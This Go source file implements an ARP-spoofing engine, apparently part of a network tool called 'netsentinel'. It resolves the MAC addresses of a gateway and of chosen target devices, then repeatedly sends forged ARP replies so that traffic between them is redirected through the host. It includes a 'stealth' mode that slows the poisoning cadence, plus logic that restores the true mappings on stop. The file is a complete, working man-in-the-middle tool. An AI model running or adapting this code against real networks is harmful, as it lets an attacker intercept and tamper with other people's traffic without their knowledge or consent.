package arp

import (
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"go.uber.org/zap"

	"github.com/netsentinel/netsentinel/internal/concurrency"
	"github.com/netsentinel/netsentinel/l2"
)

// AggressiveInterval and StealthInterval are the two poisoning cadences
// set_stealth toggles between.
const (
	AggressiveInterval = 2 * time.Second
	StealthInterval    = 15 * time.Second

	resolveAttempts = 3
	resolveTimeout  = 3 * time.Second

	// restoreReplies is the minimum number of restorative ARP replies
	// sent in each direction on remove_target/stop.
	restoreReplies = 3
	restorePacing  = 50 * time.Millisecond
)

// Target is an active ARPTarget: a device whose traffic is being
// misdirected through this host.
type Target struct {
	IP  net.IP
	MAC net.HardwareAddr

	active        atomic.Bool
	lastPoisonUTC atomic.Int64
}

// SpoofErrorFunc is invoked when a target accumulates three consecutive
// send failures (§4.1 failure semantics); it does not deactivate the
// target.
type SpoofErrorFunc func(target net.IP, err error)

// DeviceSeenFunc is invoked whenever the engine observes an ARP packet
// (solicited or not) from an address, so the caller can upsert a Device
// record. Arguments are the sender's hardware and protocol addresses.
type DeviceSeenFunc func(mac net.HardwareAddr, ip net.IP)

// PacketWriterCloser adapts a *pcap.Handle (or a fake in tests) into the
// l2.PacketWriter the engine needs, plus a Close method for shutdown.
type PacketWriterCloser interface {
	l2.PacketWriter
	Close()
}

// Engine is the ARP redirection engine described in §4.1. One Engine
// instance owns the poisoning loop for a single interface.
type Engine struct {
	iface      l2.Interface
	writer     PacketWriterCloser
	log        *zap.Logger
	onSpoofErr SpoofErrorFunc
	onSeen     DeviceSeenFunc

	resolver *resolver
	fails    *concurrency.FailCounter
	targets  *concurrency.LockMap[*Target]

	interval atomic.Int64 // nanoseconds; read/written atomically for set_stealth

	gwMu  sync.Mutex
	gwMAC net.HardwareAddr

	captureCtx    context.Context
	captureCancel context.CancelFunc
	captureDone   chan error
	failed        chan error

	loopCtx    context.Context
	loopCancel context.CancelFunc
	loopDone   chan struct{}
}

// New constructs an Engine bound to iface. It does not start capturing or
// poisoning until Start is called.
func New(iface l2.Interface, writer PacketWriterCloser, log *zap.Logger, onSpoofErr SpoofErrorFunc, onSeen DeviceSeenFunc) *Engine {
	e := &Engine{
		iface:      iface,
		writer:     writer,
		log:        log,
		onSpoofErr: onSpoofErr,
		onSeen:     onSeen,
		resolver:   newResolver(),
		fails:      concurrency.NewFailCounter(),
		targets:    concurrency.NewLockMap[*Target](),
		failed:     make(chan error, 1),
	}
	e.interval.Store(int64(AggressiveInterval))
	return e
}

// Start resolves the gateway's MAC, begins the capture loop, and begins
// the poisoning loop. If the gateway cannot be resolved, Start returns
// gateway_unreachable and no poisoning occurs.
func (e *Engine) Start(ctx context.Context) error {
	e.captureCtx, e.captureCancel = context.WithCancel(ctx)
	e.captureDone = make(chan error, 1)
	go func() {
		err := Capture(e.captureCtx, e.iface.Name, e.log, e.handlePacket)
		e.captureDone <- err
		// A capture error that isn't the expected result of our own
		// cancellation (Stop, or ctx itself ending) means the interface
		// disappeared out from under us, which §4.1 treats as fatal.
		if err != nil && e.captureCtx.Err() == nil {
			select {
			case e.failed <- err:
			default:
			}
		}
	}()

	mac, err := e.resolveGateway(ctx)
	if err != nil {
		e.captureCancel()
		<-e.captureDone
		return fmt.Errorf("arp: gateway_unreachable: %w", err)
	}
	e.gwMu.Lock()
	e.gwMAC = mac
	e.gwMu.Unlock()

	e.loopCtx, e.loopCancel = context.WithCancel(ctx)
	e.loopDone = make(chan struct{})
	go e.poisonLoop()

	return nil
}

// Failed reports unexpected capture-loop termination, e.g. the monitored
// interface disappearing. §4.1 treats this as fatal rather than a
// per-target spoof error; the caller is expected to tear the daemon down.
// At most one error is ever sent.
func (e *Engine) Failed() <-chan error {
	return e.failed
}

func (e *Engine) resolveGateway(ctx context.Context) (net.HardwareAddr, error) {
	rctx, cancel := context.WithTimeout(ctx, resolveAttempts*resolveTimeout+time.Second)
	defer cancel()
	return e.resolver.Resolve(rctx, e.writer, e.iface.HardwareAddr, e.iface.IPv4, e.iface.Gateway, resolveAttempts, resolveTimeout)
}

// handlePacket demuxes every captured ARP packet: replies are routed to
// any pending Resolve call, and every sighting (request or reply) is
// reported via onSeen so the device scanner/event store stays current.
func (e *Engine) handlePacket(_ gopacket.Packet, arpLayer *layers.ARP) {
	srcMAC := net.HardwareAddr(arpLayer.SourceHwAddress)
	srcIP := net.IP(arpLayer.SourceProtAddress)

	if e.onSeen != nil && len(srcMAC) == 6 && len(srcIP) == 4 {
		e.onSeen(srcMAC, srcIP)
	}
	if arpLayer.Operation == layers.ARPReply {
		e.resolver.observe(srcIP, srcMAC)
	}
}

// Stop restores every active target (§4.1: stop() must restore before
// returning) then tears down the poisoning and capture loops.
func (e *Engine) Stop() error {
	var targets []*Target
	e.targets.Range(func(_ string, t *Target) { targets = append(targets, t) })

	var wg sync.WaitGroup
	for _, t := range targets {
		wg.Add(1)
		go func(t *Target) {
			defer wg.Done()
			e.restore(t)
		}(t)
	}
	wg.Wait()

	if e.loopCancel != nil {
		e.loopCancel()
		<-e.loopDone
	}
	if e.captureCancel != nil {
		e.captureCancel()
		<-e.captureDone
	}
	return nil
}

// AddTarget resolves ip's MAC via broadcast ARP (3 s timeout, 3 attempts)
// and, on success, activates poisoning for it.
func (e *Engine) AddTarget(ctx context.Context, ip net.IP) error {
	mac, err := e.resolver.Resolve(ctx, e.writer, e.iface.HardwareAddr, e.iface.IPv4, ip, resolveAttempts, resolveTimeout)
	if err != nil {
		return err
	}
	t := &Target{IP: ip, MAC: mac}
	t.active.Store(true)
	e.targets.Set(ip.String(), t)
	return nil
}

// Resolve exposes the engine's broadcast-ARP resolution primitive to the
// device scanner, so the sweep reuses the same capture/demux path as
// add_target rather than opening a second handle.
func (e *Engine) Resolve(ctx context.Context, ip net.IP) (net.HardwareAddr, error) {
	return e.resolver.Resolve(ctx, e.writer, e.iface.HardwareAddr, e.iface.IPv4, ip, resolveAttempts, resolveTimeout)
}

// RemoveTarget deactivates ip and sends restorative ARPs before
// returning.
func (e *Engine) RemoveTarget(ip net.IP) error {
	t, ok := e.targets.Get(ip.String())
	if !ok {
		return nil
	}
	e.restore(t)
	e.targets.Delete(ip.String())
	return nil
}

// SetStealth toggles the poisoning interval between aggressive and
// stealth cadences.
func (e *Engine) SetStealth(stealth bool, intervalSeconds int) {
	if stealth {
		d := StealthInterval
		if intervalSeconds > 0 {
			d = time.Duration(intervalSeconds) * time.Second
		}
		e.interval.Store(int64(d))
	} else {
		e.interval.Store(int64(AggressiveInterval))
	}
}

func (e *Engine) poisonLoop() {
	defer close(e.loopDone)
	for {
		d := time.Duration(e.interval.Load())
		timer := time.NewTimer(d)
		select {
		case <-e.loopCtx.Done():
			timer.Stop()
			return
		case <-timer.C:
		}

		e.targets.Range(func(_ string, t *Target) {
			if !t.active.Load() {
				return
			}
			e.poisonOnce(t)
		})
	}
}

// poisonOnce sends the two unsolicited replies described in §4.1's
// algorithm: the target is told the gateway lives at our MAC, and the
// gateway is told the target lives at our MAC.
func (e *Engine) poisonOnce(t *Target) {
	selfMAC := e.iface.HardwareAddr

	errToTarget := l2.Send(e.writer, layers.ARPReply, selfMAC, t.MAC, e.iface.Gateway, t.IP)
	errToGateway := l2.Send(e.writer, layers.ARPReply, selfMAC, e.gatewayMAC(), t.IP, e.iface.Gateway)

	if errToTarget != nil || errToGateway != nil {
		n := e.fails.Fail(t.IP.String())
		if n >= 3 && e.onSpoofErr != nil {
			if errToTarget != nil {
				e.onSpoofErr(t.IP, errToTarget)
			} else {
				e.onSpoofErr(t.IP, errToGateway)
			}
		}
		return
	}
	e.fails.Reset(t.IP.String())
	t.lastPoisonUTC.Store(time.Now().Unix())
}

func (e *Engine) gatewayMAC() net.HardwareAddr {
	e.gwMu.Lock()
	defer e.gwMu.Unlock()
	return e.gwMAC
}

// restore sends at least restoreReplies ARP replies in each direction
// carrying the true gateway<->target mapping, paced by at least
// restorePacing, per §3's ARPTarget invariant and §4.1's algorithm.
func (e *Engine) restore(t *Target) {
	t.active.Store(false)
	gwMAC := e.gatewayMAC()
	if gwMAC == nil {
		return
	}

	for i := 0; i < restoreReplies; i++ {
		_ = l2.Send(e.writer, layers.ARPReply, gwMAC, t.MAC, e.iface.Gateway, t.IP)
		time.Sleep(restorePacing)
	}
	for i := 0; i < restoreReplies; i++ {
		_ = l2.Send(e.writer, layers.ARPReply, t.MAC, gwMAC, t.IP, e.iface.Gateway)
		time.Sleep(restorePacing)
	}
}
